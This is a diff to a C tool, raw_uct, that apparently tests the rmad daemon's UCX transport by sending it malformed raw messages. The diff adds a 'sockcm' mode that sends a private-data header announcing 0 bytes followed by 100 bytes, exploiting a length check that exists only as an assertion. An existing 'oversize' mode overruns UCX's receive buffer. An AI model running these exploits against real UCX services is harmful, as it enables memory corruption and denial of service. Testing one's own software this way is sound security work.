@@ -13,7 +13,11 @@
  *   oversize  an AM fragment whose length is far above the receive
  *             segment (checked only by an assertion, compiled out in
  *             release builds), then 64 KiB: the receive goes on past the
- *             end of UCX's buffer.
+ *             end of UCX's buffer;
+ *   sockcm    to the listener's port instead (UCX's sockcm, under ucp's
+ *             listener): a private data header announcing 0 bytes, then
+ *             100 (UCX checks the count only by an assertion, before
+ *             rmad hears of the connection).
  *
  * The sockets are the daemon's listening tcp ports other than its
  * listener's (`ss -ltnpH`). --bind picks our source address, --count how
@@ -123,6 +127,15 @@ raw_uct_attack(int fd, const char *attack, uint64_t target)
 	uint64_t magic = RAW_UCT_MAGIC;
 	static char junk[65536];
 
+	if (strcmp(attack, "sockcm") == 0) {
+		/* uct_tcp_sockcm_priv_data_hdr_t: size_t length, uint8_t
+		 * status, padded to 16 */
+		char hdr[16 + 100];
+		memset(hdr, 0, 16);
+		memset(hdr + 16, 0x41, 100);
+		raw_uct_send(fd, hdr, sizeof(hdr));
+		return;
+	}
 	raw_uct_send(fd, &magic, sizeof(magic));
 	if (strcmp(attack, "put") == 0) {
 		struct raw_uct_am_hdr h = {RAW_UCT_AM_PUT_REQ,
@@ -185,14 +198,20 @@ main(int argc, char **argv)
 		}
 	}
 	if (pid <= 0 ||
-	    (strcmp(attack, "put") != 0 && strcmp(attack, "oversize") != 0)) {
-		fprintf(stderr,
-			"usage: raw_uct --pid PID --listener PORT "
-			"[--bind IP] [--attack put|oversize] [--count N]\n");
+	    (strcmp(attack, "put") != 0 && strcmp(attack, "oversize") != 0 &&
+	     strcmp(attack, "sockcm") != 0)) {
+		fprintf(
+		    stderr,
+		    "usage: raw_uct --pid PID --listener PORT "
+		    "[--bind IP] [--attack put|oversize|sockcm] [--count N]\n");
 		return 2;
 	}
 	target = raw_uct_region(pid);
 	n = raw_uct_ports(pid, listener, ports, RAW_UCT_PORTS);
+	if (strcmp(attack, "sockcm") == 0) {
+		ports[0] = listener;
+		n = 1;
+	}
 	if (n == 0 || target == 0) {
 		fprintf(stderr, "raw_uct: %zu ports, region at %#llx\n", n,
 			(unsigned long long)target);
